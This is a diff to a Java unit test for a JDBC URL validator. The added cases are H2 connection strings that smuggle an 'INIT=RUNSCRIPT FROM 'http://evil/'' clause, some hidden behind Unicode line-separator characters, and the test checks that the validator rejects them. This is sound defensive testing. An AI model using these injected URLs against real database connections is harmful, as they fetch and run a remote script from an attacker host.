@@ -72,8 +72,9 @@ class UrlRulesTests {
 				Map.of("postgresql", List.of("options"), "h2", List.of("x")), null);
 		assertThat(more.check("jdbc:postgresql://db1/ny?options=-csearch_path")).endsWith("search_path");
 		assertThat(more.check("jdbc:h2:mem:x?x=1")).isEqualTo("jdbc:h2:mem:x?x=1");
-		for (String url : List.of("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/'", "jdbc:h2:mem:x?y=1",
-				"jdbc:sqlite:x")) {
+		for (String url : List.of("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/'",
+				"jdbc:h2:mem:x\u2028;INIT=RUNSCRIPT FROM 'http://evil/'", "jdbc:h2:mem:x\u0085;INIT=x",
+				"jdbc:h2:mem:x?y=1", "jdbc:sqlite:x")) {
 			assertThatIllegalArgumentException().isThrownBy(() -> more.check(url));
 		}
 	}
